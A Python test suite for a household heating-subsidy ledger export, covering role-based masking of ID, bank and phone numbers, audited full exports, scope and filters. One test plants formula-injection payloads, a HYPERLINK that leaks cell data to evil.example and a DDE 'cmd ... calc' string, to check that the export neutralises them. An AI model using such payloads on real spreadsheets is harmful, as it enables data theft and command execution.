"""Ledger (台账) downloads through the screens: columns, numbers full or masked per role and
area, the full-number export with a reason, the formula guard, filters, scope and audit."""
from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import openpyxl
import pytest
from sqlalchemy import select

from heating.audit.models import AuditEvent
from heating.core.masking import mask_bank, mask_id, mask_phone
from heating.extensions import db
from heating.households.exports import ledger_headers
from tests.factories import AreaFactory, GrantFactory, make_id_number
from tests.fixtures import log_in, make_case, make_user, says

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def read_xlsx(response):
    assert response.status_code == 200, response.status_code
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    rows = list(sheet.iter_rows())
    headers = ledger_headers()  # the registered columns (recoveries) come last
    assert [c.value for c in rows[0]] == list(headers)
    return [dict(zip(headers, row)) for row in rows[1:]]


def values(cells):
    return {k: c.value for k, c in cells.items()}


def read_csv(response):
    assert response.status_code == 200, response.status_code
    data = response.data
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    headers = ledger_headers()
    assert rows[0] == list(headers)
    return [dict(zip(headers, row)) for row in rows[1:]]


def exports(action):
    return list(db.session.scalars(select(AuditEvent).where(AuditEvent.action == action)))


@pytest.fixture
def cases(world):
    """Two cases in village A1, one in A2 (same township), one in B1 (other township)."""
    owner = make_user("clerk", world.village_a1, username="owner")
    return {
        "a1": make_case(world.village_a1, owner, group_name="3组", house_no="18号",
                        heated_area="80.55", low_income=True, conversion_type="gas",
                        device_kind="gas_boiler", previous_heating="coal_kang"),
        "a1b": make_case(world.village_a1, owner, state="submitted"),
        "a2": make_case(world.village_a2, owner, state="approved"),
        "b1": make_case(world.village_b1, owner, head_name="赵西山"),
    }


def test_clerk_gets_full_numbers_as_text_cells(client, world, cases):
    log_in(client, make_user("clerk", world.village_a1))
    response = client.get("/exports/households.xlsx")
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="households-')
    assert "filename*=UTF-8''%E5%86%9C%E6%88%B7%E5%8F%B0%E8%B4%A6-" in disposition  # 农户台账
    rows = read_xlsx(response)
    hh = cases["a1"]
    assert [r["案件编号"].value for r in rows] == [hh.id, cases["a1b"].id]  # own village only
    row = rows[0]
    for header, full in (("身份证号", hh.id_number), ("银行账号", hh.bank_account),
                         ("联系电话", hh.phone), ("村代码", "139901001001")):
        assert row[header].value == full and row[header].data_type == "s"
        assert row[header].number_format == "@"
    got = values(row)
    assert got["户主姓名"] == hh.head_name and got["组/门牌号"] == "3组18号"
    assert got["乡镇"] == "东河镇" and got["村"] == "东河村"
    assert got["供暖面积(平方米)"] == 80.55 and row["供暖面积(平方米)"].number_format == "0.00"
    assert got["常住人口"] == 3 and got["原燃煤炉具数"] == 1 and got["年度"] == 2026
    assert got["低保户"] == "是" and values(rows[1])["低保户"] == "否"
    # Chinese labels although this user reads the screens in English
    assert (got["改造类型"], got["设备类型"], got["原取暖方式"], got["状态"]) == (
        "煤改气", "燃气壁挂炉", "燃煤火炕", "草稿")
    assert values(rows[1])["状态"] == "已提交"
    assert got["开户银行"] == hh.bank_name and got["账户名"] == hh.account_holder
    # registered at: Beijing time, to the minute (the ledger's resolution), a date cell
    beijing = (hh.created_at + timedelta(hours=8)).replace(tzinfo=None, second=0,
                                                           microsecond=0)
    assert got["登记时间"] == beijing and row["登记时间"].is_date


def test_csv_opens_in_excel_with_chinese_headers_and_exact_numbers(client, world, cases):
    log_in(client, make_user("clerk", world.village_a1))
    response = client.get("/exports/households.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
    rows = read_csv(response)
    hh = cases["a1"]
    row = rows[0]
    # digits behind a tab: Excel keeps them as text (no rounding to 15 digits)
    assert row["身份证号"].lstrip("\t") == hh.id_number
    assert row["银行账号"] == "\t" + hh.bank_account
    assert row["供暖面积(平方米)"] == "80.55" and row["低保户"] == "是"
    assert row["案件编号"] == str(hh.id)
    beijing = hh.created_at + timedelta(hours=8)
    assert row["登记时间"] == f"{beijing:%Y-%m-%d %H:%M}"


def test_inspector_sees_masked_id_no_account_full_phone(client, world, cases):
    log_in(client, make_user("inspector", world.town_a))
    rows = read_xlsx(client.get("/exports/households.xlsx"))
    assert sorted(r["案件编号"].value for r in rows) == sorted(
        cases[k].id for k in ("a1", "a1b", "a2"))
    hh = cases["a1"]
    row = values(next(r for r in rows if r["案件编号"].value == hh.id))
    assert row["身份证号"] == mask_id(hh.id_number)
    assert row["银行账号"] is None  # "never": not even a mask
    assert row["联系电话"] == hh.phone


def test_finance_and_county_see_masks_without_a_reason(client, world, cases):
    hh = cases["b1"]
    for role in ("finance", "county"):
        log_in(client, make_user(role, world.county))
        rows = read_csv(client.get("/exports/households.csv"))
        assert len(rows) == 4
        row = next(r for r in rows if r["案件编号"] == str(hh.id))
        assert row["身份证号"] == mask_id(hh.id_number)
        assert row["银行账号"] == mask_bank(hh.bank_account)
        assert row["联系电话"] == mask_phone(hh.phone)


def test_plain_export_is_audited_with_row_count_and_filters(client, world, cases):
    user = make_user("county", world.county, username="county_x")
    log_in(client, user)
    number = cases["a1"].id_number
    response = client.get(f"/exports/households.xlsx?q={number}&year=2026")
    assert len(read_xlsx(response)) == 1
    (event,) = exports("households.export")
    assert event.actor_name == "county_x" and event.object_type == "households"
    after = json.loads(event.after)
    assert after["rows"] == 1 and after["format"] == "xlsx"
    assert after["filters"] == {"q": mask_id(number), "year": 2026}  # never the full number
    assert number not in event.after


def test_audit_is_written_before_the_file_streams(client, world, cases):
    log_in(client, make_user("county", world.county))
    response = client.get("/exports/households.csv")  # body not read yet
    assert json.loads(exports("households.export")[0].after)["rows"] == 4
    response.close()


def test_county_full_export_asks_for_a_reason_and_records_it(client, post, world, cases):
    log_in(client, make_user("county", world.county, username="county_y"))
    page = client.get("/exports/households/full?township=%d" % world.town_a.id)
    assert page.status_code == 200 and says(page, "%(n)s found", n=3)
    assert f'name="township" value="{world.town_a.id}"' in page.get_data(as_text=True)
    refused = post("/exports/households/full", {"reason": " ", "file_format": "xlsx",
                                                  "township": world.town_a.id})
    assert refused.status_code == 400 and exports("households.export_full") == []
    response = post("/exports/households/full", {"reason": "年度审计抽查", "file_format": "xlsx",
                                                  "township": world.town_a.id})
    rows = read_xlsx(response)
    assert sorted(r["案件编号"].value for r in rows) == sorted(
        cases[k].id for k in ("a1", "a1b", "a2"))
    hh = cases["a2"]
    row = next(r for r in rows if r["案件编号"].value == hh.id)
    assert row["身份证号"].value == hh.id_number and row["身份证号"].data_type == "s"
    assert row["银行账号"].value == hh.bank_account and row["联系电话"].value == hh.phone
    (event,) = exports("households.export_full")
    assert event.summary == "年度审计抽查" and event.actor_name == "county_y"
    after = json.loads(event.after)
    assert after["rows"] == 3 and after["format"] == "xlsx"
    assert after["filters"] == {"township": world.town_a.id}
    assert after["full_numbers"] == ["id_number", "bank_account", "phone"]
    assert exports("households.export") == []


def test_reviewer_full_export_reveals_only_within_the_township(client, post, world, cases):
    log_in(client, make_user("reviewer", world.town_a))
    rows = read_csv(post("/exports/households/full", {"reason": "核对", "file_format": "csv"}))
    assert sorted(int(r["案件编号"]) for r in rows) == sorted(
        cases[k].id for k in ("a1", "a1b", "a2"))
    hh = cases["a1"]
    row = next(r for r in rows if r["案件编号"] == str(hh.id))
    assert row["身份证号"].lstrip("\t") == hh.id_number
    assert row["银行账号"] == "\t" + hh.bank_account


def test_mixed_roles_reveal_only_where_the_on_request_role_is_held(client, post, world, cases):
    """Inspector over township A, reviewer over township B: a full export shows B's numbers
    in full and A's as the inspector sees them (masked ID, no account)."""
    user = make_user("inspector", world.town_a)
    GrantFactory(user=user, role="reviewer", area_id=world.town_b.id)
    db.session.commit()
    log_in(client, user)
    rows = {int(r["案件编号"]): r for r in read_csv(post(
        "/exports/households/full", {"reason": "核对", "file_format": "csv"}))}
    a, b = cases["a1"], cases["b1"]
    assert rows[b.id]["身份证号"].lstrip("\t") == b.id_number
    assert rows[b.id]["银行账号"] == "\t" + b.bank_account
    assert rows[a.id]["身份证号"] == mask_id(a.id_number) and rows[a.id]["银行账号"] == ""


@pytest.mark.parametrize("role,area", [("clerk", "village_a1"), ("inspector", "town_a")])
def test_roles_without_on_request_numbers_get_no_full_export(client, post, world, cases, role,
                                                             area):
    log_in(client, make_user(role, getattr(world, area)))
    assert client.get("/exports/households/full").status_code == 403
    assert post("/exports/households/full", {"reason": "x", "file_format": "csv"}
                ).status_code == 403
    assert exports("households.export_full") == []
    assert "exports/households/full" not in client.get("/households/").get_data(as_text=True)


def test_admin_cannot_export(client, world, cases):
    log_in(client, make_user("admin", world.county))
    for url in ("/exports/households.csv", "/exports/households.xlsx",
                "/exports/households/full"):
        assert client.get(url).status_code == 403
    assert exports("households.export") == []


def test_list_page_links_carry_the_filters(client, world, cases):
    log_in(client, make_user("county", world.county))
    body = client.get(f"/households/?state=draft&township={world.town_a.id}").get_data(
        as_text=True)
    for link in ("/exports/households.xlsx?", "/exports/households.csv?",
                 "/exports/households/full?"):
        start = body.index(link)
        href = body[start:body.index('"', start)]
        assert "state=draft" in href and f"township={world.town_a.id}" in href


@pytest.mark.parametrize("lead", TRIGGERS)
def test_formula_guard_in_both_formats(client, world, lead):
    owner = make_user("clerk", world.village_a1)
    evil = lead + 'HYPERLINK("http://evil.example/?d="&A1,"点我")'
    make_case(world.village_a1, owner, head_name=evil[:50], house_no=lead + "SUM(1)",
              account_holder=lead + "cmd|' /C calc'!A0", bank_name=lead + "1+1")
    log_in(client, owner)
    (row,) = read_xlsx(client.get("/exports/households.xlsx"))
    for header in ("户主姓名", "组/门牌号", "账户名", "开户银行"):
        cell = row[header]
        assert cell.data_type == "s" and cell.value.replace("_x000D_", "\r").startswith(
            "'" + lead if header != "组/门牌号" else "1组" + lead)
    (row,) = read_csv(client.get("/exports/households.csv"))
    assert row["户主姓名"] == "'" + evil[:50]
    assert row["账户名"].startswith("'" + lead) and row["开户银行"] == "'" + lead + "1+1"
    for header, value in row.items():  # no cell a spreadsheet would run
        assert not value.startswith(("=", "+", "-", "@", "\r")), (header, value)
        assert not value.startswith("\t") or value[1:].isdigit(), (header, value)


def test_filters_of_the_list_apply(client, world, cases):
    log_in(client, make_user("county", world.county))

    def ids(query):
        return sorted(int(r["案件编号"]) for r in read_csv(
            client.get("/exports/households.csv?" + query)))

    assert ids("state=draft") == sorted([cases["a1"].id, cases["b1"].id])
    assert ids(f"township={world.town_b.id}") == [cases["b1"].id]
    assert ids(f"township={world.town_a.id}&village={world.village_a2.id}") == [cases["a2"].id]
    assert ids("conversion_type=gas") == [cases["a1"].id]
    assert ids(f"q={cases['a2'].id_number}") == [cases["a2"].id]
    assert ids("q=赵") == [cases["b1"].id]
    assert ids("year=2025") == []
    assert ids("state=nonsense") == ids("")  # an unknown state is ignored, as on the list


def test_out_of_scope_rows_are_never_exported(client, post, world, cases):
    elsewhere = AreaFactory(code="139902000000", name="邻县", level="county")
    db.session.commit()
    log_in(client, make_user("county", elsewhere))
    assert read_csv(client.get("/exports/households.csv")) == []
    assert read_xlsx(post("/exports/households/full", {"reason": "核对",
                                                       "file_format": "xlsx"})) == []
    log_in(client, make_user("clerk", world.village_b1))
    rows = read_csv(client.get(f"/exports/households.csv?township={world.town_a.id}"))
    assert rows == []  # a filter cannot widen the scope


def test_ledger_headers_stay_chinese_in_english_and_many_rows_stream(client, world):
    owner = make_user("clerk", world.village_a1)
    for n in range(60):
        make_case(world.village_a1, owner, id_number=make_id_number(500 + n))
    log_in(client, owner, lang="en")
    assert len(read_xlsx(client.get("/exports/households.xlsx"))) == 60
    assert len(read_csv(client.get("/exports/households.csv"))) == 60


def test_more_rows_than_an_excel_sheet_holds_goes_back_to_the_list(client, world, cases,
                                                                   monkeypatch):
    from heating.core import spreadsheet_write
    monkeypatch.setattr(spreadsheet_write, "XLSX_MAX_ROWS", 3)
    log_in(client, make_user("county", world.county))
    response = client.get("/exports/households.xlsx?state=draft")  # 2 rows: fine
    assert len(read_xlsx(response)) == 2
    response = client.get("/exports/households.xlsx?year=2026")  # 4 rows: too many
    assert response.status_code == 302 and response.location.endswith("/households/?year=2026")
    assert says(client.get(response.location), "%(n)d households are more than an Excel sheet "
                "can hold. Narrow the filters (a township, a year) or export CSV.", n=4)
    assert len(exports("households.export")) == 1  # the refused one left no audit row
    assert len(read_csv(client.get("/exports/households.csv?year=2026"))) == 4


# --- review fixes ---------------------------------------------------------------------------
def test_account_numbers_are_read_through_the_model_accessor(client, world, cases,
                                                             monkeypatch):
    """The ledger converts the raw bank column with Household.bank_account_from_column (as
    the ID column goes through id_number_from_column): a later at-rest encryption changes
    only the model.  Here the "stored" form is the number reversed."""
    from heating.households.models import Household
    monkeypatch.setattr(Household, "bank_account_from_column",
                        staticmethod(lambda stored: stored[::-1] if stored else stored))
    hh = cases["a1"]
    log_in(client, make_user("clerk", world.village_a1))
    (row, _) = read_csv(client.get("/exports/households.csv"))
    assert row["银行账号"] == "\t" + hh.bank_account[::-1]
    log_in(client, make_user("county", world.county))
    rows = read_csv(client.get("/exports/households.csv"))
    row = next(r for r in rows if r["案件编号"] == str(hh.id))
    assert row["银行账号"] == mask_bank(hh.bank_account[::-1])


def test_inspector_export_has_neither_bank_nor_account(client, world, cases):
    """As on the case page: an inspector's ledger has the account column blank, and the
    bank's name too, in both formats."""
    log_in(client, make_user("inspector", world.town_a))
    for row in read_csv(client.get("/exports/households.csv")):
        assert row["银行账号"] == "" and row["开户银行"] == ""
        assert row["账户名"]  # the holder's name is not a bank number
    for row in read_xlsx(client.get("/exports/households.xlsx")):
        assert row["银行账号"].value is None and row["开户银行"].value is None


def test_inspector_with_a_role_that_sees_accounts_keeps_that_view(client, world, cases):
    """Inspector and finance over the same township: finance's masked account wins there;
    outside the finance grant, nothing."""
    user = make_user("inspector", world.town_a)
    GrantFactory(user=user, role="finance", area_id=world.village_a1.id)
    db.session.commit()
    log_in(client, user)
    rows = {int(r["案件编号"]): r for r in read_csv(client.get("/exports/households.csv"))}
    a1, a2 = cases["a1"], cases["a2"]
    assert rows[a1.id]["银行账号"] == mask_bank(a1.bank_account)
    assert rows[a1.id]["开户银行"] == a1.bank_name
    assert rows[a2.id]["银行账号"] == "" and rows[a2.id]["开户银行"] == ""


def test_csv_keeps_id_account_and_phone_digits_as_text(client, world):
    """Excel would show an all-digit ID number as 1.39901E+17 and round it: in the CSV ledger
    every all-digit ID number, account number, phone number and village code has a leading
    tab (Excel then keeps the digits as text); masked values and values with a letter are left
    as they are; user text that starts with a tab (or = + - @ CR) is still neutralised."""
    owner = make_user("clerk", world.village_a1)
    digits_only = next(make_id_number(n) for n in range(900, 999)
                       if make_id_number(n)[-1] != "X")
    with_x = next(make_id_number(n) for n in range(900, 999) if make_id_number(n)[-1] == "X")
    plain = make_case(world.village_a1, owner, id_number=digits_only)
    lettered = make_case(world.village_a1, owner, id_number=with_x,
                         head_name="\t139901197001010011", house_no="\t1234567890123456",
                         account_holder="=1+1", bank_name="\r6222")
    log_in(client, owner)
    rows = {int(r["案件编号"]): r for r in read_csv(client.get("/exports/households.csv"))}
    row = rows[plain.id]
    assert row["身份证号"] == "\t" + digits_only
    assert row["银行账号"] == "\t" + plain.bank_account
    assert row["联系电话"] == "\t" + plain.phone
    assert row["村代码"] == "\t139901001001"
    row = rows[lettered.id]
    assert row["身份证号"] == with_x  # not all digits: Excel keeps it as text anyway
    # user text is guarded, never passed off as digits kept as text
    assert row["户主姓名"] == "'\t139901197001010011"
    assert row["账户名"] == "'=1+1" and row["开户银行"] == "'\r6222"
    assert row["组/门牌号"] == "1组\t1234567890123456"  # not at the start: harmless
    # masked numbers are not digit strings: no tab
    log_in(client, make_user("finance", world.county))
    row = next(r for r in read_csv(client.get("/exports/households.csv"))
               if r["案件编号"] == str(plain.id))
    assert row["身份证号"] == mask_id(digits_only)
    assert row["银行账号"] == mask_bank(plain.bank_account)
    assert row["联系电话"] == mask_phone(plain.phone)
